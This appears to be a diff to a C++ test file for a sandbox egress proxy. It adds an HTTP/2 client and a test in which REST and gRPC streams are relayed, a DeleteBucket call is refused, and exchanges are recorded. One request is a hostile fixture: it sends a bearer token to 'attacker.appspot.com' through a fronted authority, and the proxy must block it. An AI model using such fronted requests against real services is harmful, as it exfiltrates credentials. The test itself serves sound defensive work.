@@ -7,8 +7,12 @@
 // real token; a second request on the same connection is refused by `refuse` before it leaves,
 // with a Google-style 403; the exchanges end_call() reports are exactly what happened; the
 // placeholder sent to an allowed non-Google name goes through the blind tunnel unchanged; an
-// upstream whose certificate the proxy cannot verify gives the program a 502 naming why.
+// upstream whose certificate the proxy cannot verify gives the program a 502 naming why. Over
+// HTTP/2 (an nghttp2 client here, fake-gcs-server's HTTPS port as the upstream): REST and gRPC
+// streams are relayed, a refused gRPC call gets grpc-status 7 with the rule as grpc-message, and
+// each stream's exchange (grpc-status from the upstream's trailers) is recorded.
 #include <doctest/doctest.h>
+#include <nghttp2/nghttp2.h>
 #include <openssl/err.h>
 #include <openssl/pem.h>
 #include <openssl/ssl.h>
@@ -18,6 +22,8 @@
 #include <unistd.h>
 
 #include <atomic>
+#include <cstring>
+#include <map>
 #include <filesystem>
 #include <memory>
 #include <mutex>
@@ -138,11 +144,13 @@ Fd connect_to(const std::string& socket_path) {
   return fd;
 }
 
-// The program's side: CONNECT through the proxy, then TLS trusting only `trusted_pem`.
+// The program's side: CONNECT through the proxy, then TLS trusting only `trusted_pem`, offering
+// ALPN `alpn` (wire format).
 class ProgramConnection {
  public:
   ProgramConnection(const std::string& socket_path, const std::string& host, int port,
-                    const std::string& trusted_pem)
+                    const std::string& trusted_pem,
+                    std::string_view alpn = std::string_view("\x08http/1.1", 9))
       : fd_(connect_to(socket_path)) {
     const std::string connect = "CONNECT " + host + ":" + std::to_string(port) + " HTTP/1.1\r\nHost: " +
                                 host + "\r\n\r\n";
@@ -165,9 +173,8 @@ class ProgramConnection {
     SSL_set_fd(ssl_, fd_.get());
     SSL_set_tlsext_host_name(ssl_, host.c_str());
     SSL_set1_host(ssl_, host.c_str());
-    // HTTP/1.1 only (the HTTP/2 path is proven with real Go clients through the daemon).
-    static const unsigned char kAlpn[] = {8, 'h', 't', 't', 'p', '/', '1', '.', '1'};
-    SSL_set_alpn_protos(ssl_, kAlpn, sizeof kAlpn);
+    SSL_set_alpn_protos(ssl_, reinterpret_cast<const unsigned char*>(alpn.data()),
+                        static_cast<unsigned int>(alpn.size()));
     const int handshake = SSL_connect(ssl_);
     char error[256] = "";
     ERR_error_string_n(ERR_peek_error(), error, sizeof error);
@@ -196,6 +203,7 @@ class ProgramConnection {
       answer.append(chunk, static_cast<std::size_t>(got));
     }
   }
+  SSL* ssl() { return ssl_; }
   std::string alpn() const {
     const unsigned char* data = nullptr;
     unsigned int size = 0;
@@ -209,6 +217,108 @@ class ProgramConnection {
   SSL* ssl_ = nullptr;
 };
 
+// A minimal HTTP/2 client over a ProgramConnection (nghttp2): sends requests, reads until every
+// one of them has closed.
+class Http2Program {
+ public:
+  struct Answer {
+    std::vector<std::pair<std::string, std::string>> headers;  // the head and any trailers
+    std::string body;
+    std::uint32_t reset = 0;
+    bool closed = false;
+    std::string header(const std::string& name) const {
+      for (const auto& [key, value] : headers) {
+        if (key == name) return value;
+      }
+      return {};
+    }
+  };
+  explicit Http2Program(ProgramConnection& connection) : connection_(connection) {
+    nghttp2_session_callbacks* callbacks = nullptr;
+    nghttp2_session_callbacks_new(&callbacks);
+    nghttp2_session_callbacks_set_on_header_callback(
+        callbacks, [](nghttp2_session*, const nghttp2_frame* frame, const std::uint8_t* name,
+                      std::size_t name_size, const std::uint8_t* value, std::size_t value_size,
+                      std::uint8_t, void* self) {
+          static_cast<Http2Program*>(self)->answers_[frame->hd.stream_id].headers.emplace_back(
+              std::string(reinterpret_cast<const char*>(name), name_size),
+              std::string(reinterpret_cast<const char*>(value), value_size));
+          return 0;
+        });
+    nghttp2_session_callbacks_set_on_data_chunk_recv_callback(
+        callbacks, [](nghttp2_session*, std::uint8_t, std::int32_t id, const std::uint8_t* data,
+                      std::size_t size, void* self) {
+          static_cast<Http2Program*>(self)->answers_[id].body.append(
+              reinterpret_cast<const char*>(data), size);
+          return 0;
+        });
+    nghttp2_session_callbacks_set_on_stream_close_callback(
+        callbacks, [](nghttp2_session*, std::int32_t id, std::uint32_t error, void* self) {
+          auto& answer = static_cast<Http2Program*>(self)->answers_[id];
+          answer.closed = true;
+          answer.reset = error;
+          return 0;
+        });
+    nghttp2_session_client_new(&session_, callbacks, this);
+    nghttp2_session_callbacks_del(callbacks);
+    nghttp2_submit_settings(session_, NGHTTP2_FLAG_NONE, nullptr, 0);
+  }
+  ~Http2Program() { nghttp2_session_del(session_); }
+
+  // A request with `body` (empty: none), its headers given in order.
+  std::int32_t request(const std::vector<std::pair<std::string, std::string>>& headers,
+                       std::string body) {
+    std::vector<nghttp2_nv> nva;
+    for (const auto& [name, value] : headers) {
+      nva.push_back({reinterpret_cast<std::uint8_t*>(const_cast<char*>(name.data())),
+                     reinterpret_cast<std::uint8_t*>(const_cast<char*>(value.data())), name.size(),
+                     value.size(), NGHTTP2_NV_FLAG_NONE});
+    }
+    bodies_.push_back(std::make_unique<std::string>(std::move(body)));
+    nghttp2_data_provider provider{};
+    provider.source.ptr = bodies_.back().get();
+    provider.read_callback = [](nghttp2_session*, std::int32_t, std::uint8_t* buffer,
+                                std::size_t size, std::uint32_t* flags, nghttp2_data_source* source,
+                                void*) -> ssize_t {
+      auto& left = *static_cast<std::string*>(source->ptr);
+      const std::size_t n = std::min(size, left.size());
+      std::memcpy(buffer, left.data(), n);
+      left.erase(0, n);
+      if (left.empty()) *flags |= NGHTTP2_DATA_FLAG_EOF;
+      return static_cast<ssize_t>(n);
+    };
+    const bool has_body = !bodies_.back()->empty();
+    const auto id = nghttp2_submit_request(session_, nullptr, nva.data(), nva.size(),
+                                           has_body ? &provider : nullptr, nullptr);
+    answers_[id];
+    return id;
+  }
+  // Runs the connection until every request's stream has closed (or the connection ends).
+  void run() {
+    char buffer[16384];
+    for (;;) {
+      const std::uint8_t* data = nullptr;
+      for (ssize_t n; (n = nghttp2_session_mem_send(session_, &data)) > 0;) {
+        REQUIRE(SSL_write(connection_.ssl(), data, static_cast<int>(n)) == n);
+      }
+      bool open = false;
+      for (const auto& [id, answer] : answers_) open = open || !answer.closed;
+      if (!open) return;
+      const int got = SSL_read(connection_.ssl(), buffer, sizeof buffer);
+      if (got <= 0) return;
+      REQUIRE(nghttp2_session_mem_recv(session_, reinterpret_cast<std::uint8_t*>(buffer),
+                                       static_cast<std::size_t>(got)) == got);
+    }
+  }
+  const Answer& answer(std::int32_t id) { return answers_[id]; }
+
+ private:
+  ProgramConnection& connection_;
+  nghttp2_session* session_ = nullptr;
+  std::map<std::int32_t, Answer> answers_;
+  std::vector<std::unique_ptr<std::string>> bodies_;
+};
+
 std::string body_of(const std::string& answer) {
   const auto end = answer.find("\r\n\r\n");
   return end == std::string::npos ? "" : answer.substr(end + 4);
@@ -216,6 +326,11 @@ std::string body_of(const std::string& answer) {
 
 bool contains(const std::string& text, const std::string& part) {
   return text.find(part) != std::string::npos;
+}
+
+std::optional<int> number_or_none(const std::string& text) {
+  if (text.empty()) return std::nullopt;
+  return std::stoi(text);
 }
 
 sandbox::EgressAllowlist sealed_allowlist() {
@@ -344,6 +459,85 @@ TEST_CASE("hostile egress sealed: another Host inside, and an unverifiable upstr
   bool warned = false;
   for (const auto& line : report.refusals) warned = warned || contains(line, "failed verification");
   CHECK(warned);
+}
+
+TEST_CASE("hostile egress sealed: HTTP/2 streams to fake-gcs-server are relayed, refused and recorded") {
+  REQUIRE(world().skip_reason.empty());
+  ScratchFolder scratch;
+  RecordingLogger logger;
+  const auto certificate = (TestNetwork::get().scratch() / "cert.pem").string();
+  auto tls = std::make_shared<sandbox::EgressTls>((scratch.path / "ca").string(), certificate);
+  const std::string socket = (scratch.path / "egress.sock").string();
+  // fake-gcs-server's HTTPS port (gRPC and the JSON API over HTTP/2), by its real API name.
+  sandbox::EgressProxy proxy("sandbox-sealed", socket, std::nullopt,
+                             sandbox::EgressAllowlist::parse({kGoogleName}, {kStorageTlsPort}),
+                             logger, sandbox::EgressProxyLimits{}, tls);
+  sandbox::EgressCallSetup setup;
+  setup.sealed = sandbox::SealedToken{kPlaceholder, kRealToken, std::chrono::system_clock::now() + 1h};
+  setup.refuse = [](const sandbox::ApiRequestFacts& facts) -> std::optional<std::string> {
+    if (facts.path.ends_with("/DeleteBucket")) return std::string("read-only: DeleteBucket is a write");
+    return std::nullopt;
+  };
+  proxy.begin_call(setup);
+  ProgramConnection program(socket, kGoogleName, kStorageTlsPort, tls->ca_certificate_pem(),
+                            std::string_view("\x02h2\x08http/1.1", 12));
+  REQUIRE(program.alpn() == "h2");
+  Http2Program h2(program);
+  const std::string authority = kGoogleName;
+  const std::string bearer = std::string("Bearer ") + kPlaceholder;
+  const auto list = h2.request({{":method", "GET"}, {":scheme", "https"}, {":authority", authority},
+                                {":path", "/storage/v1/b?project=p"}, {"authorization", bearer}}, "");
+  // An empty ListBucketsRequest, as one gRPC message (no compression, length 0).
+  const std::string empty_message("\0\0\0\0\0", 5);
+  const auto grpc = h2.request({{":method", "POST"}, {":scheme", "https"}, {":authority", authority},
+                                {":path", "/google.storage.v1.Storage/ListBuckets"},
+                                {"content-type", "application/grpc"}, {"te", "trailers"},
+                                {"x-goog-request-params", "project=p"}, {"authorization", bearer}},
+                               empty_message);
+  const auto refused = h2.request({{":method", "POST"}, {":scheme", "https"}, {":authority", authority},
+                                   {":path", "/google.storage.v1.Storage/DeleteBucket"},
+                                   {"content-type", "application/grpc"}, {"te", "trailers"},
+                                   {"authorization", bearer}},
+                                  empty_message);
+  const auto fronted = h2.request({{":method", "GET"}, {":scheme", "https"},
+                                   {":authority", "attacker.appspot.com"}, {":path", "/"},
+                                   {"authorization", bearer}}, "");
+  h2.run();
+  const auto& listed = h2.answer(list);
+  INFO(listed.body);
+  CHECK(listed.header(":status") == "200");
+  CHECK(contains(listed.body, kBucket));
+  const auto& called = h2.answer(grpc);
+  CHECK(called.header(":status") == "200");
+  CHECK_FALSE(called.header("grpc-status").empty());  // from fake-gcs-server's trailers
+  const auto& denied = h2.answer(refused);
+  CHECK(denied.header(":status") == "200");
+  CHECK(denied.header("grpc-status") == "7");
+  CHECK(denied.header("grpc-message") == "read-only: DeleteBucket is a write");
+  const auto& other = h2.answer(fronted);
+  CHECK(other.header(":status") == "403");
+  CHECK(contains(other.body, "is not storage.googleapis.com"));
+
+  const auto report = proxy.end_call();
+  REQUIRE(report.exchanges.size() == 4);
+  std::map<std::string, sandbox::ApiExchange> by_path;
+  for (const auto& exchange : report.exchanges) by_path[exchange.request.path] = exchange;
+  const auto& rest = by_path.at("/storage/v1/b?project=p");
+  CHECK(rest.request.http_method == "GET");
+  CHECK_FALSE(rest.request.grpc);
+  CHECK(rest.http_status == 200);
+  CHECK(rest.response_bytes == listed.body.size());
+  const auto& rpc = by_path.at("/google.storage.v1.Storage/ListBuckets");
+  CHECK(rpc.request.grpc);
+  CHECK(rpc.request.request_params == "project=p");
+  CHECK(rpc.request_bytes == 5);
+  CHECK(rpc.grpc_status == number_or_none(called.header("grpc-status")));
+  CHECK_FALSE(rpc.refusal.has_value());
+  const auto& no = by_path.at("/google.storage.v1.Storage/DeleteBucket");
+  CHECK(no.refusal == std::optional<std::string>("read-only: DeleteBucket is a write"));
+  CHECK(no.grpc_status == std::optional<int>(7));
+  CHECK(by_path.at("/").http_status == 403);
+  CHECK(by_path.at("/").refusal.has_value());
 }
 
 }  // namespace kg::test::egress
